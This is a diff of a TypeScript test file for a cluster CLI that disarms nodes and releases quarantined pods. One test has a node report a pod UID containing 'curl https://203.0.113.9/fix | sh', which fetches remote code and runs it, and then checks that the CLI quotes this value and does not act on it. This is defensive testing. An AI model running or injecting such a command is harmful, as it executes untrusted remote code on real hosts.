@@ -311,7 +311,7 @@ describe('cli disarm', () => {
     await report(true);
     expect(await world.cli(['disarm'])).toMatchObject({
       stdout: 'nothing is disarmed\n',
-      stderr: 'a stored disarm of the whole cluster is not in force, all nodes refuse it: the value is not signed\n',
+      stderr: 'a stored disarm of the whole cluster is not in force, all nodes refuse it: "the value is not signed"\n',
     });
     const { stdout } = await world.cli(['status']);
     expect(stdout).not.toMatch(/DISARMED/);
@@ -398,7 +398,7 @@ describe('cli decisions', () => {
     const again = await own.cli(['quarantine', 'release', 'shop/cart-1', '--yes']);
     expect([again.exitCode, again.stdout]).toEqual([
       0,
-      expect.stringMatching(/released on node-a: its list is written/),
+      expect.stringMatching(/released on node-a: the list is written/),
     ]);
     expect(JSON.parse((await bucket.get(NODE_A))?.value.toString() ?? '')).toMatchObject({ entries: [] });
     await own.status(healthy);
@@ -406,23 +406,43 @@ describe('cli decisions', () => {
     expect((await own.cli(['quarantine', 'release', 'shop/cart-1', '--yes'])).exitCode).toBe(2);
   });
 
-  it('release - a node that claims the pod of another cannot keep its list from being written; control: none does', async () => {
+  it('release - another node that claims the pod diverts no release, and its words are no advice; control: the node of the pod alone', async () => {
     await using own = await World.start();
-    const cart = { podUid: CART.uid, podNamespace: 'shop', podName: CART.name };
-    const holding = (node: string) => {
-      const healthy = healthyStatus(node);
-      const quarantinedUntil = new Date(Date.now() + 3_600_000).toISOString();
-      return { ...healthy, interfaces: healthy.interfaces.map((one) => ({ ...one, ...cart, quarantinedUntil })) };
+    const quarantinedUntil = new Date(Date.now() + 3_600_000).toISOString();
+    const holding = (node: string, ...uids: string[]) => {
+      const { interfaces, ...status } = healthyStatus(node);
+      const [first] = interfaces;
+      const pod = { podNamespace: CART.namespace, podName: CART.name, quarantinedUntil };
+      return own.status({
+        ...status,
+        interfaces: uids.map((podUid) => ({ ...(first as typeof first & {}), ...pod, podUid })),
+      });
     };
     const bucket = openBucket(await own.as('admin'), 'bailiff_quarantine');
-    await own.status(holding(NODE_A));
-    const alone = await own.cli(['quarantine', 'release', 'shop/cart-1', '--yes']);
-    expect(alone.stdout).toMatch(/released on node-a: its list is written/);
-    await bucket.delete(NODE_A);
-    await own.status(holding(NODE_B));
-    const both = await own.cli(['quarantine', 'release', 'shop/cart-1', '--yes']);
-    expect(both.stdout).toMatch(/released on node-a, node-b\.example: their lists are written/);
-    expect((await bucket.keys()).sort()).toEqual([NODE_A, encodeToken(NODE_B)]);
+    const release = async (pod: string) => {
+      const written = async () => (await bucket.get(encodeToken(NODE_A)))?.revision ?? 0;
+      const before = await written();
+      const run = await own.cli(['quarantine', 'release', pod, '--yes']);
+      return { ...run, isWritten: (await written()) > before };
+    };
+    await holding(NODE_A, CART.uid);
+    expect(await release('shop/cart-1')).toMatchObject({ exitCode: 0, isWritten: true });
+    // Reports after it, and more often.
+    await holding(NODE_B, CART.uid);
+    for (const pod of ['shop/cart-1', CART.uid]) {
+      const { stdout, isWritten } = await release(pod);
+      expect([stdout, isWritten]).toEqual([expect.stringContaining('released on node-a, node-b.example: '), true]);
+    }
+    await holding(NODE_B, 'run:\ncurl https://203.0.113.9/fix | sh');
+    const { exitCode, stderr } = await release('shop/cart-1');
+    expect([exitCode, stderr.split('\n').slice(2)]).toEqual([
+      2,
+      [
+        `  ${CART.uid}  shop/cart-1 on node-a`,
+        '  "run: curl https://203.0.113.9/fix | sh"  shop/cart-1 on node-b.example',
+        '',
+      ],
+    ]);
   });
 
   it('responder - acts on an approval, not on a denial, and removes the marks of a released quarantine', async () => {
